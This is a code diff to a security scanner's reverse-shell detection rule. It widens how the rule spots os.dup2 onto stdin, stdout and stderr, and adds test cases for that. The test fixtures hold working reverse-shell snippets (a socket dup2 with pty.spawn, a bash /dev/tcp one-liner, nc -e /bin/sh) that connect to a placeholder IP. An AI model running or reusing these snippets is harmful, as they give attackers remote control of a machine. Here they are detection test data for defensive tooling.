@@ -10,6 +10,7 @@ from datasec_scan import fallback
 from datasec_scan.model import Category, Confidence, Severity
 from datasec_scan.rule import Rule
 from datasec_scan.semantics.constants import fold
+from datasec_scan.tree import Visitor, walk
 
 from . import _prescreen as ps
 from ._remote import (
@@ -56,8 +57,10 @@ def wiring(an: Analyzer, call: cst.Call, scope: cst.CSTNode | None = None) -> tu
     """How a call hands a connection to a shell: (description, strong) or None."""
     qualified = an.call_names(call)
     args = positional(call)
-    if "os.dup2" in qualified and len(args) == 2 and fold(args[1], an.names) in (0, 1, 2):
-        return f"os.dup2 of `{code_of(args[0], 30)}` onto fd {fold(args[1], an.names)}", True
+    if "os.dup2" in qualified and len(args) == 2:
+        fd = _standard_fd(an, args[1], scope)
+        if fd is not None and not _opened_file(an, args[0]):
+            return f"os.dup2 of `{code_of(args[0], 30)}` onto {fd}", True
     if "pty.spawn" in qualified:
         return "pty.spawn of a shell", False
     if _stdin_write(call) and args:  # `proc.stdin.write(sock.recv(n))`: a thread pumping the socket into a shell
@@ -86,6 +89,68 @@ def wiring(an: Analyzer, call: cst.Call, scope: cst.CSTNode | None = None) -> tu
     return None
 
 
+# What `os.dup2` may copy onto fd 0/1/2 in a daemon or a test harness: a file opened on disk, a pipe, a stream.
+_FILE_OPENERS = ("builtins.open", "os.open", "io.open", "codecs.open", "os.pipe", "os.devnull", "tempfile.", "sys.std",
+                 "sys.__std", "pathlib.", "os.openpty", "pty.openpty")
+
+
+def _opened_file(an: Analyzer, expr: cst.BaseExpression) -> bool:
+    """`expr` is known to come from a file opener (`os.open(log)`, `open(p).fileno()`), not from a connection."""
+    names = an.names.qualified_names(expr)
+    return bool(names) and all(n.startswith(_FILE_OPENERS) and "socket" not in n for n in names)
+
+
+_STANDARD_STREAMS = {f"sys.{prefix}{name}{suffix}": fd for fd, name in enumerate(("stdin", "stdout", "stderr"))
+                     for prefix, suffix in (("", ""), ("__", "__"))}
+
+
+def _standard_fd(an: Analyzer, expr: cst.BaseExpression, scope: cst.CSTNode | None) -> str | None:
+    """How `expr` names standard input, output or error: `1`, `sys.stdout.fileno()`, or the variable of a loop
+    over such numbers (`for fd in (0, 1, 2)`, `[... for fd in range(3)]`); None otherwise."""
+    value = fold(expr, an.names)
+    if value in (0, 1, 2) and not isinstance(value, bool):
+        return f"fd {value}"
+    if (isinstance(expr, cst.Call) and not expr.args and isinstance(expr.func, cst.Attribute)
+            and expr.func.attr.value == "fileno"):
+        streams = sorted(_STANDARD_STREAMS[q] for q in an.names.qualified_names(expr.func.value) if q in _STANDARD_STREAMS)
+        return f"fd {streams[0]}" if streams else None
+    if isinstance(expr, cst.Name) and scope is not None:
+        loops = _LoopsOver(expr.value, an)
+        walk(scope, loops)
+        return f"fd `{expr.value}` in {loops.found}" if loops.found else None
+    return None
+
+
+class _LoopsOver(Visitor):
+    """Finds a `for` loop or comprehension binding `name` to numbers among which are 0, 1 or 2."""
+
+    def __init__(self, name: str, an: Analyzer) -> None:
+        self.name, self.an, self.found = name, an, ""
+
+    def _check(self, target: cst.BaseExpression, iterable: cst.BaseExpression) -> None:
+        if self.found or not (isinstance(target, cst.Name) and target.value == self.name):
+            return
+        numbers = self._numbers(iterable)
+        if numbers is not None and not {0, 1, 2}.isdisjoint(numbers):
+            self.found = code_of(iterable, 20)
+
+    def _numbers(self, iterable: cst.BaseExpression) -> list[object] | None:
+        if isinstance(iterable, (cst.Tuple, cst.List, cst.Set)):
+            return [fold(e.value, self.an.names) for e in iterable.elements if isinstance(e, cst.Element)]
+        if (isinstance(iterable, cst.Call) and "builtins.range" in self.an.call_names(iterable)
+                and 1 <= len(iterable.args) <= 2):
+            bounds = [fold(a.value, self.an.names) for a in iterable.args]
+            if all(isinstance(b, int) and not isinstance(b, bool) for b in bounds):
+                return list(range(*bounds)[:3])  # type: ignore[arg-type]
+        return None
+
+    def visit_For(self, node: cst.For) -> None:
+        self._check(node.target, node.iter)
+
+    def visit_CompFor(self, node: cst.CompFor) -> None:
+        self._check(node.target, node.iter)
+
+
 def _stdin_write(call: cst.Call) -> bool:
     func = call.func
     return (isinstance(func, cst.Attribute) and func.attr.value == "write" and isinstance(func.value, cst.Attribute)
@@ -98,7 +163,8 @@ class ReverseShell(ps.CodeScreen, FunctionScopes, Rule):
     ## What it does
     Finds a function (or module) that connects out with `socket`, `asyncio.open_connection`,
     `telnetlib`, `ssl.wrap_socket` or `socket.create_connection` and hands that connection to a
-    shell: `os.dup2` of the socket onto file descriptors 0/1/2, `pty.spawn`, a `subprocess` whose
+    shell: `os.dup2` of the socket onto file descriptors 0/1/2 (written as numbers, as
+    `sys.stdout.fileno()`, or as the variable of a loop over them), `pty.spawn`, a `subprocess` whose
     stdin/stdout is the socket, or a spawner running commands read from it. When the connection
     and the shell sit in different functions (`shell(connect())`, a thread pumping `sock.recv()`
     into `proc.stdin.write`), a function that runs what a socket sends as the whole command, in a
@@ -143,12 +209,16 @@ class ReverseShell(ps.CodeScreen, FunctionScopes, Rule):
         "import subprocess\nsubprocess.run(['git', 'status'])\n",
         "import pty\npty.spawn('/bin/bash')\n",
         "import socket\ns = socket.create_connection(('example.com', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
+        "import os, socket\ns = socket.create_connection(('example.com', 80))\nlog = os.open('out.log', os.O_WRONLY)\n"
+        "for fd in (1, 2):\n    os.dup2(log, fd)\n",
     )
     INVALID = (
         "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
         "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
         "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n",
         "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\n",
+        "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
+        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/sh')\n",
     )
 
     @classmethod
